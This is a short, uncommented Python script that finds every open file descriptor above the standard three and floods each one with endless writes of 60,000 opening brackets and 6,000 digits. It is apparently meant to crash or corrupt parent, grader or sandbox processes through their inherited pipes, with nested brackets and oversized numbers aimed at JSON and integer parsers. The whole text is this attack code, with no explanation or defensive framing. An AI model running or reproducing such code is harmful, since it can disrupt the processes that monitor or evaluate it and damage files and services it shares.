import os

def others():
    for fd in range(3, 512):
        try:
            os.fstat(fd)
        except OSError:
            continue
        yield fd

for fd in others():
    try:
        while True:
            os.write(fd, b'[' * 60000 + b'\n' + b'9' * 6000 + b'\n')
    except OSError:
        pass
